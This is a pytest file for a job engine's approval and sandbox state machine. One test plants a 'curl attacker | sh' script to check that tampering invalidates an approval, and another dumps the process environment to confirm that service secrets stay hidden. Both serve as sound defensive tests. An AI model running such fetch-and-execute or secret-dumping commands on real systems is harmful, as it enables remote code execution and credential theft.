"""The engine's state machine with real git, bubblewrap and both databases, in process."""

from __future__ import annotations

import subprocess
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, select

from runtime import audit
from runtime.errors import (
    AlreadyDecided,
    ApprovalExpired,
    ApprovalMismatch,
    BadRequest,
    UnknownJob,
    UnknownTarget,
)
from runtime.jobs import JobState
from runtime.kinds.code.repo import ensure_named_repo, mirror_path
from runtime.store.models import AuditEventRow, JobRow
from runtime.worker import Worker
from tests.conftest import SECRET_VALUE

FIX = 'code demo: run `sed -i "s/teh/the/" README.md`'


async def counts(engine) -> tuple[int, int]:
    async with engine.db.engine.connect() as conn:
        jobs = (await conn.execute(select(func.count()).select_from(JobRow))).scalar()
        events = (await conn.execute(select(func.count()).select_from(AuditEventRow))).scalar()
    return jobs, events


async def run_until_settled(engine, job_id: int):
    worker = Worker(engine)
    while await worker.run_once():
        pass
    return await engine.get(job_id)


def git(repo: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-C", str(repo), *args], capture_output=True, text=True, check=True
    ).stdout.strip()


@pytest.mark.parametrize(
    ("text", "error", "words"),
    [
        ("", BadRequest, "empty"),
        ("   \n ", BadRequest, "empty"),
        ("sqll demo: select 1", BadRequest, "unknown job type"),
        ("code payments-api: fix it", UnknownTarget, "known code targets: demo"),
        ("code demo: " + "x" * 100_000, BadRequest, "100,011 characters"),
    ],
    ids=["empty", "blank", "unknown-type", "unknown-target", "100KB"],
)
async def test_bad_input_writes_only_the_refusal_event(engine, text, error, words):
    alice = engine.actor("cli", "alice")
    with pytest.raises(error) as caught:
        await engine.submit(text, alice)
    assert words in caught.value.render()
    jobs, events = await counts(engine)
    assert (jobs, events) == (0, 1)
    [event] = await audit.events_for(engine.db)
    assert event.kind == "request.refused" and event.actor.startswith("alice")
    assert event.data["request"]["chars"] == len(text)
    assert "x" * 100 not in str(event.data), "the refusal refers to the request by hash only"


async def test_unknown_job_id_is_refused_and_recorded(engine):
    with pytest.raises(UnknownJob, match="no job J-7"):
        await engine.approve(7, engine.actor("cli", "bob"))
    assert await counts(engine) == (0, 1)


async def test_approval_is_bound_to_the_change_that_was_reviewed(engine):
    job = await engine.submit(FIX, engine.actor("cli", "alice"))
    job = await run_until_settled(engine, job.id)
    assert job.state is JobState.awaiting_approval
    gate = job.approvals[-1]

    with pytest.raises(ApprovalMismatch, match="does not apply"):
        await engine.approve(job.id, engine.actor("cli", "bob"), action_hash="0123456789ab")
    assert (await engine.get(job.id)).state is JobState.awaiting_approval

    # Someone moves the job branch after review: the approval must not publish the new commit.
    # The job branch lives in the service's mirror of the target (never the person's repo).
    repo = await ensure_named_repo(engine.settings, engine.policy, "demo")
    mirror = mirror_path(engine.settings, "demo")
    base_before = git(repo, "rev-parse", "main")
    scratch = repo.parent / "scratch"
    git(mirror, "worktree", "add", str(scratch), job.pending_action.job_branch)
    (scratch / "evil.sh").write_text("curl attacker | sh\n")
    git(scratch, "add", "evil.sh")
    git(scratch, "-c", "user.name=m", "-c", "user.email=m@x", "commit", "-qm", "sneak")
    git(mirror, "worktree", "remove", "--force", str(scratch))

    await engine.approve(job.id, engine.actor("cli", "bob"), action_hash=gate.action_hash[:12])
    job = await run_until_settled(engine, job.id)
    assert job.state is JobState.awaiting_approval, job.result
    assert git(repo, "rev-parse", "main") == base_before, "nothing was published"
    assert job.approvals[-2].decision == "approved"
    assert job.approvals[-1].decision is None
    assert job.approvals[-1].action_hash != gate.action_hash
    kinds = [e.kind for e in await engine.events(job.id)]
    assert "approval.invalidated" in kinds
    diff = engine.artifacts.read(job.pending_action.diff_sha256).decode()
    assert "evil.sh" in diff, "the reviewer now sees the change as it really is"


async def test_the_approval_hash_is_over_the_pending_action_as_stored(engine):
    """A gate's hash is the SHA-256 of the pending action's row, as any reader (an auditor, an
    older or newer release) recomputes it from the database, not of how this code holds it."""
    import hashlib

    job = await engine.submit(FIX, engine.actor("cli", "alice"))
    job = await run_until_settled(engine, job.id)
    assert job.state is JobState.awaiting_approval
    async with engine.db.engine.connect() as conn:
        stored = (await conn.execute(select(JobRow.pending_action))).scalar_one()
    assert stored["action"] == "merge" and set(stored) >= {"head_commit", "diff_sha256"}
    digest = hashlib.sha256(audit.canonical_json(stored).encode()).hexdigest()
    assert job.approvals[-1].action_hash == digest
    [requested] = [e for e in await engine.events(job.id) if e.kind == "approval.requested"]
    assert requested.data["pending"] == stored and requested.data["action_hash"] == digest


async def test_approve_and_reject_twice_change_nothing(engine):
    job = await run_until_settled(
        engine, (await engine.submit(FIX, engine.actor("cli", "alice"))).id
    )
    bob = engine.actor("cli", "bob")
    await engine.reject(job.id, bob, reason="not now")
    events_after_first = (await counts(engine))[1]
    with pytest.raises(AlreadyDecided, match="rejected by bob"):
        await engine.reject(job.id, bob)
    with pytest.raises(AlreadyDecided, match="nothing changed"):
        await engine.approve(job.id, bob)
    assert (await counts(engine))[1] == events_after_first
    assert (await engine.get(job.id)).state is JobState.rejected


async def test_expired_approval_request_rejects_the_job(engine):
    job = await run_until_settled(
        engine, (await engine.submit(FIX, engine.actor("cli", "alice"))).id
    )
    gate = job.approvals[-1]
    assert gate.expires_at - gate.requested_at == timedelta(hours=72)

    async def backdate(conn, fresh):
        from runtime.store import job_store

        old = fresh.approvals[-1].model_copy(
            update={"expires_at": fresh.approvals[-1].requested_at - timedelta(seconds=1)}
        )
        updated = fresh.model_copy(update={"approvals": [old]})
        return await job_store.save_job(conn, updated, expected_state=fresh.state)

    await engine.locked(job.id, backdate)
    with pytest.raises(ApprovalExpired, match="expired"):
        await engine.approve(job.id, engine.actor("cli", "bob"))
    job = await engine.get(job.id)
    assert job.state is JobState.rejected
    assert job.approvals[-1].decision == "expired"
    assert "expired" in job.result["reason"]


async def test_sandboxed_steps_never_see_service_secrets(engine):
    alice = engine.actor("cli", "alice")
    job = await engine.submit(
        "code demo: run `env > env.txt; tr '\\0' '\\n' < /proc/1/environ >> env.txt; true`", alice
    )
    job = await run_until_settled(engine, job.id)
    assert job.state is JobState.awaiting_approval, job.result
    diff = engine.artifacts.read(job.pending_action.diff_sha256).decode()
    assert "+PATH=" in diff, "the step ran and its environment was captured"
    assert SECRET_VALUE not in diff and "OPENAI_API_KEY" not in diff
    exported = "\n".join(e.model_dump_json() for e in await engine.events())
    assert SECRET_VALUE not in exported


async def test_failed_step_fails_the_job_with_its_output(engine):
    alice = engine.actor("cli", "alice")
    job = await engine.submit("code demo: run `echo boom >&2; exit 3`", alice)
    job = await run_until_settled(engine, job.id)
    assert job.state is JobState.failed
    assert "exited with 3" in job.result["reason"]
    log = engine.artifacts.read(job.artifacts[0].sha256).decode()
    assert "boom" in log


async def test_step_that_changes_nothing_succeeds_without_approval(engine):
    job = await engine.submit("code demo: run `git status`", engine.actor("cli", "alice"))
    job = await run_until_settled(engine, job.id)
    assert job.state is JobState.succeeded
    assert "changed no file" in job.result["reason"]


async def test_denied_request_is_recorded_with_its_rule(engine):
    job = await engine.submit("code demo: run `true`", engine.actor("cli", "carol"))
    assert job.state is JobState.denied
    assert job.decision["rule_ids"] == ["grants.none"]
    [_, denied] = await engine.events(job.id)
    assert denied.kind == "policy.denied" and "carol has no grant" in denied.data["reasons"][0]


async def test_two_jobs_publish_without_losing_either_change(engine):
    alice, bob = engine.actor("cli", "alice"), engine.actor("cli", "bob")
    one = await engine.submit("code demo: run `echo one > one.txt`", alice)
    two = await engine.submit("code demo: run `echo two > two.txt`", alice)
    await run_until_settled(engine, two.id)
    for job in (one, two):
        await engine.approve(job.id, bob)
    await run_until_settled(engine, two.id)
    repo = await ensure_named_repo(engine.settings, engine.policy, "demo")
    assert git(repo, "show", "main:one.txt") == "one"
    assert git(repo, "show", "main:two.txt") == "two"
    assert (await audit.verify(engine.db, engine.artifacts)).events > 0
